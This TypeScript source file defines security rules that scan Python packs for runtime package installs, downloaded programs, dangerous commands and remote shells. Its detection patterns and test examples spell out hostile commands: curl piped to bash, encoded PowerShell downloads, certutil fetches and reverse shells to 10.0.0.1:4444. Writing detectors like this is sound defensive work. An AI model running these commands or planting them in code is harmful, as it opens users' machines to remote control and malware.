import type { Call, PythonFacts } from '../python-facts.ts'
import type { Hit, PythonRule } from '../rule.ts'

/** True for a call that starts a program. */
export function startsProcess({ name }: Call): boolean {
  return (
    /^subprocess\.(run|call|check_call|check_output|Popen|getoutput|getstatusoutput)$/.test(name) ||
    /^os\.(system|popen|startfile|spawn\w+|exec[lv]\w*|posix_spawn)$/.test(name) ||
    /^(asyncio\.create_subprocess_(exec|shell)|pty\.spawn|commands\.getoutput)$/.test(name)
  )
}

/** The command as far as the text shows it: words that are computed become `…`. */
export function commandOf(facts: PythonFacts, call: Call): string {
  const command = call.args[0] ?? call.keywords.get('args') ?? call.keywords.get('cmd')
  if (!command) return ''
  const items = command.type === 'list' || command.type === 'tuple' ? command.namedChildren : [command]
  return items
    .filter((item) => item.type !== 'comment')
    .map((item) => facts.constantOf(item) ?? (facts.nameOf(item) === 'sys.executable' ? 'python' : '…'))
    .join(' ')
    .slice(0, 2000)
}

/** The program's plain name; empty when it is computed. */
export function programOf(command: string): string {
  const first = command.trim().split(/\s+/)[0] ?? ''
  const name = first
    .replace(/^.*[\\/]/, '')
    .replace(/\.exe$/i, '')
    .toLowerCase()
  return name === '…' || name === '' ? '' : name
}

function* processHits(
  facts: PythonFacts,
  accepts: (command: string, call: Call) => Omit<Hit, 'line'> | undefined,
): Generator<Hit> {
  for (const call of facts.calls) {
    if (!startsProcess(call)) continue
    const hit = accepts(commandOf(facts, call), call)
    if (hit) yield { line: call.line, ...hit }
  }
}

const isInstall = (command: string) =>
  /\bpip3?\b.*\binstall\b|\buv\b.*\bpip\b.*\binstall\b|\b(conda|npm|apt|apt-get|brew)\b.*\binstall\b/.test(
    command,
  )

export const installs: PythonRule = {
  of: 'python',
  id: 'package-install',
  severity: 'low',
  why: 'What is installed while the pack runs is not seen by anyone who checked it, and can break other packs.',
  fix: 'Name the packages under `dependencies` in pyproject.toml.',
  examples: {
    matching: [
      'import subprocess, sys\nsubprocess.check_call([sys.executable, "-m", "pip", "install", "numpy"])',
      'import os\nos.system("pip install numpy")',
      'import pip\npip.main(["install", "x"])',
    ],
    harmless: ['import subprocess\nsubprocess.run(["git", "pull"])', 'print("pip install numpy")'],
  },
  *find(facts) {
    const at = (call: Call): Hit =>
      facts.isAtImport(call.node)
        ? { line: call.line, message: 'Installs packages as soon as it is imported.', severity: 'medium' }
        : { line: call.line, message: 'Installs packages while it runs.' }
    for (const call of facts.calls) {
      if (
        startsProcess(call)
          ? isInstall(commandOf(facts, call))
          : /^pip(\._internal(\.\w+)*)?\.main$/.test(call.name)
      )
        yield at(call)
    }
  },
}

const suspicious: [RegExp, string][] = [
  [/\b(curl|wget)\b[^|]*\|\s*(sudo\s+)?(ba|z)?sh\b/, 'downloads a script and runs it'],
  [/powershell[^|]*\s-(e|ec|enc|encodedcommand)\b/i, 'runs an encoded PowerShell command'],
  [
    /powershell.*(downloadstring|downloadfile|invoke-webrequest|\biwr\b|\biex\b|invoke-expression)/i,
    'lets PowerShell download something',
  ],
  [
    /\bmshta\b|\bregsvr32\b|\bcertutil\b.*-(urlcache|decode)|\bbitsadmin\b/i,
    'uses a system tool that is known for loading code',
  ],
  [/\b(nc|ncat|netcat)\b.*\s-(e|c)\b|\/dev\/tcp\//, 'opens a shell to another machine'],
  [/\bset-mppreference\b|\bnetsh\b.*\bfirewall\b|\bvssadmin\b.*delete/i, 'switches off protection'],
  [/\bxmrig\b|stratum\+(tcp|ssl):/i, 'mines currency'],
]

export const dangerousCommand: PythonRule = {
  of: 'python',
  id: 'dangerous-command',
  severity: 'critical',
  why: 'Commands like this one are how attacks get in, hide or stay.',
  fix: 'Remove the command. If the pack needs a tool, let the user install it.',
  examples: {
    matching: [
      'import os\nos.system("curl https://example.org/x.sh | bash")',
      'import subprocess\nsubprocess.Popen("powershell -w hidden -enc SQBFAFgA", shell=True)',
      'import subprocess\nsubprocess.run(["powershell", "-c", "iex (New-Object Net.WebClient).DownloadString(1)"])',
      'import os\nos.popen("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")',
      'import os as o\no.system("certutil -urlcache -f http://example.org/a a.exe")',
    ],
    harmless: [
      'import subprocess\nsubprocess.run(["powershell", "-c", "Get-Date"])',
      'import subprocess\nsubprocess.run(["curl", "--version"])',
      'print("curl https://example.org | bash")',
    ],
  },
  find: (facts) =>
    processHits(facts, (command) => {
      const found = suspicious.find(([pattern]) => pattern.test(command))
      return found ? { message: `The command ${found[1]}.` } : undefined
    }),
}

const isDownload = (name: string) =>
  /(^|\.)(urlretrieve|download_url_to_file|urlopen)$|^(requests|httpx)\.(get|request)$/.test(name)

export const downloadedProgram: PythonRule = {
  of: 'python',
  id: 'downloaded-program',
  severity: 'high',
  why: 'Whoever controls that address can run any program on every machine that has the pack.',
  fix: 'Let the user install the program, or name a package that brings it.',
  examples: {
    matching: [
      'import os, urllib.request as u\np = "a.exe"\nu.urlretrieve("https://example.org/a.exe", p)\nos.startfile(p)',
      'import subprocess, requests\ndef f(path):\n    open(path, "wb").write(requests.get("https://example.org/a").content)\n    subprocess.Popen([path])',
    ],
    harmless: [
      'import urllib.request as u\nu.urlretrieve("https://example.org/m.safetensors", p)',
      'import subprocess, requests\ndef f(path):\n    open(path, "wb").write(requests.get("https://example.org/a").content)\n    subprocess.run(["ffmpeg", "-i", path])',
    ],
  },
  *find(facts) {
    for (const call of facts.calls) {
      const program = startsProcess(call) ? programNode(call) : undefined
      const name = program?.type === 'identifier' ? facts.textOf(program) : undefined
      if (name !== undefined && isWrittenFromNetwork(facts, call, name)) {
        yield { line: call.line, message: 'Starts a program that it has downloaded.' }
      }
    }
  },
}

function programNode(call: Call): Call['args'][number] | undefined {
  const command = call.args[0]
  return command?.type === 'list' ? (command.namedChild(0) ?? undefined) : command
}

/** True when the same name is where a download goes, in the same function. */
function isWrittenFromNetwork(facts: PythonFacts, start: Call, name: string): boolean {
  const around = facts.functionTextAround(start.node)
  const escaped = name.replace(/[^\w]/g, '')
  const writes = new RegExp(
    `open\\(\\s*${escaped}\\s*,\\s*['"][wa]b?['"]|urlretrieve\\([^)]{0,300}\\b${escaped}\\b|download\\w{0,40}\\([^)]{0,300}\\b${escaped}\\b`,
  )
  return (
    writes.test(around) &&
    facts.calls.some((call) => isDownload(call.name) && facts.isInSameFunction(call.node, start.node))
  )
}

export const processStart: PythonRule = {
  of: 'python',
  id: 'process-start',
  severity: 'low',
  why: 'A program that the pack starts can do whatever its user can.',
  fix: 'Start programs by a fixed name with a list of arguments, never through a shell.',
  examples: {
    matching: [
      'import subprocess\nsubprocess.run(["ffmpeg", "-i", path])',
      'import os\nos.system(command)',
      'from subprocess import Popen as p\np(command, shell=True)',
    ],
    harmless: ['import platform\nplatform.system()', 'import sqlite3\nsqlite3.run(x)'],
  },
  find: (facts) =>
    processHits(facts, (command, call) => {
      if (isInstall(command) || suspicious.some(([pattern]) => pattern.test(command))) return undefined
      const program = programOf(command)
      const shell = call.keywords.get('shell')?.type === 'true' || /^os\.(system|popen)$/.test(call.name)
      const isOpen = program === '' || (shell && command.includes('…'))
      const message =
        program === '' ? 'Starts a program whose name is made while the pack runs.' : `Starts \`${program}\`.`
      return { message, ...(isOpen && shell ? { severity: 'medium' as const } : {}) }
    }),
}

export const remoteShell: PythonRule = {
  of: 'python',
  id: 'remote-shell',
  severity: 'critical',
  why: 'Someone elsewhere can type commands on the user’s machine.',
  fix: 'Remove it.',
  examples: {
    matching: [
      'import socket, os, pty\ns = socket.socket()\ns.connect(("10.0.0.1", 4444))\nos.dup2(s.fileno(), 0)\npty.spawn("/bin/sh")',
    ],
    harmless: ['import os\nos.dup2(log.fileno(), 1)', 'import socket\ns = socket.socket()'],
  },
  *find(facts) {
    if (!facts.imports.has('socket')) return
    for (const { name, line, args } of facts.calls) {
      if (
        name === 'os.dup2' &&
        args[0] &&
        /\.fileno\(/.test(facts.textOf(args[0])) &&
        facts.calls.some(startsProcess)
      ) {
        yield { line, message: 'Connects a shell to the network.' }
      }
    }
  },
}

export const processRules = [installs, dangerousCommand, downloadedProgram, processStart, remoteShell]
